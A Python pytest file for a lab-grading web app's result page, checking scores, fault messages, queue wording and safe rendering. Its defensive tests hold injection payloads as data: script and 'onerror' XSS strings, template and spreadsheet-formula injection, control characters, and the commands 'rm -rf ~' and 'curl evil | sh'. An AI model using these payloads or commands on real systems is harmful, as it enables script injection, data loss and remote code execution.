"""The result page says what happened, whose fault it is and what comes next, and strangers' text stays text."""

import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest

from grader.domain.course import Handed, Handin
from grader.domain.diagnosis import findings
from grader.domain.errors import Fault, NotAllowed
from grader.domain.job import Attempt, Ending, Job, JobState, Lane, Place
from grader.domain.lab import Lab
from grader.domain.live import LiveEvent
from grader.domain.people import Person, Role, Viewer
from grader.domain.report import read_report
from grader.domain.score import score
from grader.steps.viewing import View
from grader.web.pages.rendering import render
from grader.web.pages.showing import result_context
from grader.web.pages.telling import told
from grader.web.pages.wording import chance, duration, large, odds, small, turn

NOW = 1_764_012_000.0
ADA = Person(1, "ada", "Ada Lovelace")
STUDENT = Viewer(ADA, {"c": Role.STUDENT})
GRADER = Viewer(Person(2, "grace", "Grace"), {"c": Role.GRADER})
LAW = {"name": "law of total", "observed": 300.0, "allowed": 9.48, "n": 7, "false_fail_rate": 3.3e-10, "sigmas": 4.5,
       "detectable": "22 named mistakes", "conclusive": True,
       "bars": {"context": "draft 3", "labels": ["token 0", "token 1"], "expected": [1.0, 0.0], "observed": [0.9, 0.1],
                "n": 113}}  # fmt: skip
MESSAGE = """\
[lab-01] test_total - 4 points
 Claim     : the total is the sum
 Input     : total(items=[0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 1.0,
             1.1])
 Yours     : 6.5   first difference
             at position 3
 Try       : add
 Replay    : LAB_IMPL=starter LAB_SEED=7 pytest phase-08/labs/lab-01 -k test_total
 Hint      : python -m labkit hint lab-01 total"""
WALK = {"n": [8, 64, 512], "value": [0.4, 0.2, 0.19], "band": [0.5, 0.2, 0.07]}
NEW_LAW = {**LAW, "kind": "law", "statistic": "evidence against the law, log10", "effect": "one probability off by 0.2",
           "power": 0.999, "seed": "77", "needed": "4,096 draws without an impossible answer", "trace": WALK,
           "bars": {**LAW["bars"], "low": [1.0, 0.0], "high": [1.0, 0.0]}}  # fmt: skip
LAW_MESSAGE = """\
[lab-01] test_total - 4 points
 Claim     : the total is the sum
 In short  : Your code answered “token 1” here. A correct one never does, so
             once is enough.
 Measured  : evidence against your code: certain, after 7 draws
 Picture   : outcome               law   yours  █ yours, ░ allowed
 Try       : add"""
EVERY_STATE = [
    (JobState.GRADED, None), (JobState.FAILED, Fault.STUDENT), (JobState.FAILED, Fault.LAB_AUTHOR),
    (JobState.FAILED, Fault.OPERATOR), (JobState.DEAD, Fault.US), (JobState.CANCELLED, None),
    (JobState.SUPERSEDED, None), (JobState.QUEUED, None), (JobState.OFFERED, None), (JobState.RUNNING, None),
]  # fmt: skip


def job(**changes: Any) -> Job:
    """A graded job, or what `changes` make of it."""
    plain = Job("j1", "s2", "c", "lab-01-counting", 1, "d" * 64, "cpu", Lane.INTERACTIVE, 7, 5, NOW, JobState.GRADED, 1)
    return replace(plain, **changes)


def report(lab: Lab, message: str = MESSAGE, output: str = "", checks: tuple[Any, ...] = (LAW,)) -> bytes:
    """test_count passed; test_total failed and left this behind."""
    passed = {stage: {"outcome": "passed", "duration": 0.1} for stage in ("setup", "call", "teardown")}
    properties = [
        {"verdict": "failed"}, {"diagnosis": {"cause": "off-by-one", "hint": "", "message": message}},
        {"output": output}, *({"check": check} for check in checks),
    ]  # fmt: skip
    return json.dumps(
        {
            "tests": [
                {"nodeid": "test_lab.py::test_count", "outcome": "passed", **passed,
                 "user_properties": [{"output": output}]},
                {"nodeid": "test_lab.py::test_total", "outcome": "failed", **passed,
                 "call": {"outcome": "failed", "duration": 0.1}, "user_properties": properties},
                {"nodeid": "test_lab.py::test_large", "outcome": "passed", **passed},
            ]
        }
    ).encode()  # fmt: skip


def view(lab: Lab, body: bytes | None = None, of: Job | None = None, **changes: Any) -> View:
    """What there is to show."""
    read = read_report(body, lab) if body else None
    one = of or job(points=6, max_points=10)
    plain = View(
        handin=Handin("s2", "c", lab.id, 1, 2, "x" * 64, "web", NOW), person=ADA, lab=lab, job=one, jobs=[one],
        attempts=[], place=None, report=read, score=score(read, lab) if read else None,
        findings=findings(read, lab) if read else (), earlier=[], replay=f"grader grade {lab.id} starter.py --seed 7",
    )  # fmt: skip
    return replace(plain, **changes)


def page(shown: View, viewer: Viewer = STUDENT, events: tuple[LiveEvent, ...] = ()) -> str:
    """The result page as a browser gets it, without page-wide white space."""
    context = {"viewer": viewer, "csrf": "c" * 64, "error": None, "duplicate": False}
    return render("result.html", **context, **result_context(shown, viewer, events))


def text(html: str) -> str:
    """What a reader reads, on one line."""
    return " ".join(re.sub(r"<[^>]*>", " ", html).split())


class Checked(HTMLParser):
    """Counts what a strict policy or a hostile submission would be known by."""

    VOID = frozenset({"meta", "link", "input", "br", "img"})

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.ids: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        if tag not in self.VOID:
            self.open.append(tag)
        if tag == "style" or "style" in names or any(name.startswith("on") for name in names):
            self.problems.append(f"{tag} {names}")
        if tag == "script" and not (names.get("src") or "").startswith("/static/"):
            self.problems.append(f"script {names}")
        if tag in ("img", "iframe", "object", "base"):
            self.problems.append(tag)
        self.ids += [value for name, value in attrs if name == "id" and value]

    def handle_endtag(self, tag: str) -> None:
        if tag not in self.VOID and (not self.open or self.open.pop() != tag):
            self.problems.append(f"</{tag}> closes nothing")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in self.VOID:
            self.open.pop()


def problems(html: str) -> list[str]:
    """What is wrong with a page's markup."""
    checked = Checked()
    checked.feed(html)
    doubled = {one for one in checked.ids if checked.ids.count(one) > 1}
    return [*checked.problems, *checked.open, *(f"id {one} twice" for one in doubled)]


def test_a_graded_page_has_score_verdicts_findings_measurements_and_replay(lab: Lab) -> None:
    html = page(view(lab, report(lab, output="<hello>")))
    told_text = text(html)
    assert problems(html) == []
    for words in (
        "6 of 10 points", "✓ 2 passed", "✗ 1 failed", "What to mend", "the total is the sum", "Try add",
        "evidence against the law: certain", "at most 1 in 3.03 billion correct submissions", "4.5 standard deviations",
        "22 named mistakes", "113 draws of draft 3", "What your code printed &lt;hello&gt;", "0 of 4",
        "grader grade lab-01-counting starter.py --seed 7",
    ):  # fmt: skip
        assert words in told_text, words
    assert html.index("What to mend") < html.index("Every test")
    assert html.count('role="img"') == 2
    assert 'href="#finding-1"' in html and 'id="finding-1"' in html


def test_a_law_is_told_plainly_first_and_drawn_twice_with_its_own_allowance(lab: Lab) -> None:
    html = page(view(lab, report(lab, LAW_MESSAGE, checks=(NEW_LAW,))))
    told_text = text(html)
    assert problems(html) == []
    assert html.index("In short") < html.index("What was measured")
    assert '<div class="lead">' in html
    for words in (
        "Your code answered “token 1” here", "one probability off by 0.2: missed in at most 1 of 1,000 submissions",
        "Needed 4,096 draws without an impossible answer", "Its seed 77", "Shaded is what this check allows",
        "but for 1 of 3.03 billion runs", "most of them drawn after the verdict", "total variation", "Allowed Yours",
        "100.0–100.0%",
    ):  # fmt: skip
        assert words in told_text, words
    assert html.count('role="img"') == 3
    assert "█" not in html and "Measured" not in told_text, "the page draws by itself"


def test_without_measurements_the_text_keeps_its_own_picture(lab: Lab) -> None:
    html = page(view(lab, report(lab, LAW_MESSAGE, checks=())))
    assert "█ yours, ░ allowed" in html and "evidence against your code: certain" in html
    assert problems(html) == []


def undecided(lab: Lab, message: str) -> str:
    """The page of a submission whose one open test did not settle."""
    open_law = {**NEW_LAW, "observed": 6.1, "conclusive": False, "bars": {**NEW_LAW["bars"], "observed": [0.8, 0.2]}}
    body = report(lab, message, checks=(open_law,)).replace(b'"verdict": "failed"', b'"verdict": "inconclusive"')
    return page(view(lab, body))


def test_what_did_not_settle_is_a_third_state_without_green_or_red(lab: Lab) -> None:
    html = undecided(lab, LAW_MESSAGE)
    card = html[html.index('<article class="card open"') : html.index("</article>")]
    assert problems(html) == []
    assert "What is not settled" in html and "What to mend" not in html
    assert "? inconclusive" in text(card) and "not settled" in card
    assert not re.search(r'class="[^"]*\b(good|bad|inside|outside|off)\b', card)
    assert "that is not a pass, it costs no attempt" in text(card)
    assert "neither a pass nor a fail" in text(undecided(lab, "an old text"))


def test_answers_too_even_to_be_random_are_not_called_inside_the_limit(lab: Lab) -> None:
    even = {**NEW_LAW, "observed": -3.0, "needed": "shares that scatter", "trace": None, "bars": None}
    html = page(view(lab, report(lab, LAW_MESSAGE, checks=(even,))))
    assert "more even than random ones ever are" in text(html)
    assert "inside the limit" not in html
    passed = page(view(lab, report(lab, LAW_MESSAGE, checks=({**even, "needed": ""},))))
    assert "inside the limit" in passed


def test_full_marks_are_said_without_a_list_of_things_to_mend(lab: Lab) -> None:
    passed = report(lab).replace(b'"failed"', b'"passed"')
    shown = text(page(view(lab, passed)))
    assert "10 of 10 points" in shown and "Every test passed" in shown and "What to mend" not in shown


@pytest.mark.parametrize(("state", "fault"), EVERY_STATE)
def test_every_state_has_a_well_formed_page(state: JobState, fault: Fault | None, lab: Lab) -> None:
    body = report(lab) if state is JobState.GRADED else None
    shown = view(lab, body, job(state=state, fault=fault, problem="disk <full>", worker="w1"))
    for viewer in (STUDENT, GRADER):
        html = page(shown, viewer)
        assert problems(html) == []
        assert ("http-equiv" in html) == ("data-events" in html) == (not state.final)
        assert ("/rerun" in html) == (state.final and viewer is GRADER)
        assert ("/cancel" in html) == (not state.final)
        assert html.count('name="csrf"') == html.count('method="post"')


@pytest.mark.parametrize(
    ("state", "fault", "whose", "then"),
    [
        (JobState.FAILED, Fault.STUDENT, "could not be run as it is", "hand it in again"),
        (JobState.FAILED, Fault.LAB_AUTHOR, "not your code's fault", "Nothing counts against you"),
        (JobState.FAILED, Fault.OPERATOR, "not your fault", "Nothing counts against you"),
        (JobState.DEAD, Fault.US, "our fault, not yours", "The staff see an alarm"),
        (JobState.CANCELLED, None, "was cancelled", "Hand it in again"),
        (JobState.SUPERSEDED, None, "A newer submission took its place", "Nothing to do"),
    ],
)
def test_without_a_score_the_page_says_whose_fault_it_is_and_what_comes_next(
    state: JobState, fault: Fault | None, whose: str, then: str, lab: Lab
) -> None:
    shown = text(page(view(lab, None, job(state=state, fault=fault, attempt=5, problem="disk <full>"))))
    assert whose in shown.replace("&#39;", "'") and then in shown and "disk &lt;full&gt;" in shown
    assert "points" not in shown


def test_lost_attempts_are_named_as_ours(lab: Lab) -> None:
    attempts = [
        Attempt(1, "w1", NOW, NOW + 31, Ending.LOST),
        Attempt(2, "w2", NOW + 40, NOW + 41, Ending.GIVEN_BACK, "no <space>"),
        Attempt(3, "w3", NOW + 50),
    ]
    shown = text(page(view(lab, None, job(state=JobState.RUNNING, worker="w3", attempt=3), attempts=attempts)))
    assert shown.count("That was our fault and cost you nothing") == 2
    assert "no &lt;space&gt;" in shown and "Running on w3, attempt 3." in shown


def test_what_an_attempt_told_is_there_without_javascript_and_the_stream_goes_on_behind_it(lab: Lab) -> None:
    first = {"test": "test_count", "verdict": "failed", "points": 0, "max_points": 6, "stretch": False, "duration_s": 1}
    second = {**first, "verdict": "passed", "points": 6, "duration_s": 0.5}
    events = (
        LiveEvent(1, "queued", NOW, {}), LiveEvent(2, "started", NOW, {}), LiveEvent(3, "test", NOW, first),
        LiveEvent(4, "requeued", NOW, {}), LiveEvent(5, "started", NOW, {}), LiveEvent(6, "test", NOW, second),
    )  # fmt: skip
    html = page(view(lab, None, job(state=JobState.RUNNING, worker="w")), events=events)
    assert "1 of 3 tests done, 1 passed" in text(html)
    assert 'data-events="/api/v1/submissions/s2/events?after=6"' in html
    assert text(html).count("to come") == 2


def test_a_test_whose_engine_is_at_work_is_being_measured(lab: Lab) -> None:
    measured = replace(lab, tests=tuple(replace(test, measured=test.name == "test_total") for test in lab.tests))
    waits, works = LiveEvent(3, "measuring", NOW, {"ahead": 2}), LiveEvent(4, "measuring", NOW, {"ahead": 0})
    started = LiveEvent(2, "started", NOW, {})
    for events, words in (
        ((started, waits), "waiting for the engine, 2 before you"),
        ((started, waits, works), "being measured"),
        ((started, waits, works, LiveEvent(5, "requeued", NOW, {})), "to come"),
    ):
        shown = text(page(view(measured, None, job(state=JobState.RUNNING, worker="w")), events=events))
        assert shown.count(words) == (3 if words == "to come" else 1)


@pytest.mark.parametrize(
    ("place", "words"),
    [
        (Place(0, 1, 2, 3.2), "Yours is next, run by 2 slots of the cpu queue, about 3 s to go."),
        (Place(3, 9, 1, None), "3 jobs before yours, run by 1 slot of the cpu queue."),
        (Place(1, 2, 1, 600.0), "1 job before yours, run by 1 slot of the cpu queue, about 10 min to go."),
        (
            Place(0, 1, 0, None),
            "No worker of the cpu queue is alive at the moment, so nobody can say when: it is kept.",
        ),
        (None, "It waits for a worker of the cpu queue."),
    ],
)
def test_who_waits_is_told_how_long_and_for_whom(place: Place | None, words: str) -> None:
    assert turn(place, "cpu").endswith(words)


def test_only_graders_see_whose_it_is_and_everybody_finds_the_newer_one(lab: Lab) -> None:
    newer = Handed(Handin("s3", "c", lab.id, 1, 3, "y", "web", NOW), ADA, job(points=10, max_points=10))
    this = Handed(Handin("s2", "c", lab.id, 1, 2, "x", "web", NOW), ADA, job(points=None))
    shown = view(lab, None, job(state=JobState.SUPERSEDED), earlier=[newer, this])
    assert "Ada Lovelace</strong> (ada)" in page(shown, GRADER) and "</strong> (ada)" not in page(shown)
    assert 'href="/submissions/s3">Go to submission 3' in page(shown)
    assert 'aria-current="true"' in page(shown)


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</pre></dd></article><iframe src=javascript:alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "\u202eevil\u2066\u200b\ufeff",
    "\x1b[31mred\x1b]8;;http://x\x07link\x1b]8;;\x07\x9b2J\x00\x08",
    "\ud800\udfff\udcff",
    '=cmd|"/c calc"!A1',
    "&lt;b&gt; &#60;script&#62;",
    "A" * 50_000,
    "word " * 10_000,
    "\n" * 50_000,
]


@pytest.mark.parametrize("evil", HOSTILE, ids=range(len(HOSTILE)))
def test_strangers_text_stays_text_wherever_it_comes(evil: str, lab: Lab) -> None:
    check = {**LAW, "name": evil, "detectable": evil, "bars": {**LAW["bars"], "context": evil, "labels": [evil, "b"]}}
    shaped = f"[lab-01] x\n Yours     : {evil}\n Replay    : {evil}\n Hint      : {evil}"
    calm = problems(page(view(lab, report(lab))))
    stranger = Person(1, evil, evil)
    for message in (evil, shaped):
        shown = view(
            lab, report(lab, message, evil, (check,)), replay=evil,
            attempts=[Attempt(1, evil, NOW, NOW, Ending.LOST, evil)],
            person=stranger,
            earlier=[Handed(Handin("s2", "c", lab.id, 1, n, "x", evil, NOW), stranger, job(points=n, max_points=2))
                     for n in (2, 1)],
        )  # fmt: skip
        html = page(shown, GRADER)
        assert problems(html) == calm == []
        assert html.count("<script") == 1, "the page's own"


@pytest.mark.parametrize("evil", HOSTILE, ids=range(len(HOSTILE)))
def test_reports_are_cleaned_and_bounded_before_they_are_shown(evil: str, lab: Lab) -> None:
    html = page(view(lab, report(lab, evil, evil)))
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\ud800-\udfff]", html
    )
    assert len(html) < 40_000
    html.encode("utf-8")


def test_a_message_in_another_shape_is_shown_as_it_is(lab: Lab) -> None:
    traceback = "Traceback (most recent call last):\n  File <x>, line 3\nZeroDivisionError"
    assert told(traceback) == () == told("") == told("[lab] one line") == told("[lab]\nno label")
    assert '<pre class="diagnosis"' in page(view(lab, report(lab, traceback)))


def test_labkits_lines_are_told_apart_and_rejoined_where_only_the_width_broke_them() -> None:
    lines = {line.label: line for line in told(MESSAGE)}
    assert list(lines) == ["Input", "Yours", "Try", "Replay", "Hint"]
    assert lines["Input"].text == "total(items=[0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 1.0, 1.1])"
    assert lines["Yours"].text == "6.5   first difference\nat position 3"
    assert [line.label for line in lines.values() if line.command] == ["Replay", "Hint"]


def test_only_labkits_own_commands_are_offered_for_copying() -> None:
    evil = "[lab-01] x\n Replay    : LAB_IMPL=starter LAB_SEED=7 pytest x -k y; rm -rf ~\n Hint      : curl evil | sh"
    assert [line.command for line in told(evil)] == [False, False]


@pytest.mark.parametrize(
    ("shown", "words"),
    [
        (duration(0.0004), "0.4 ms"), (duration(1.234), "1.23 s"), (duration(59.7), "60 s"), (duration(400), "7 min"),
        (duration(9000), "2 h"), (large(3.0303e9), "3.03 billion"), (large(1200), "1,200"), (large(2.5), "2.5"),
        (large(1e18), "10¹⁸"), (small(0.0), "0"), (small(0.25), "0.25"), (small(9.99e-16), "10⁻¹⁵"),
        (small(2.2e-16), "2.2 × 10⁻¹⁶"), (small(-5e9), "-5.0 × 10⁹"), (odds(9.48), "3.02 billion to 1"),
        (odds(-2.0), "none: the draws fit the law"), (chance(None), "not stated"),
        (chance(0.0), "never: the check is exact"), (chance(1e-6), "at most 1 in 1 million correct submissions"),
    ],
)  # fmt: skip
def test_numbers_come_in_words(shown: str, words: str) -> None:
    assert shown == words


def test_an_error_names_the_fault_and_the_way_out() -> None:
    error = NotAllowed("no <such> thing", "check the address")
    html = render("error.html", viewer=None, csrf="", error=error, title="Nothing here")
    assert problems(html) == []
    assert "no &lt;such&gt; thing" in html and "check the address" in html
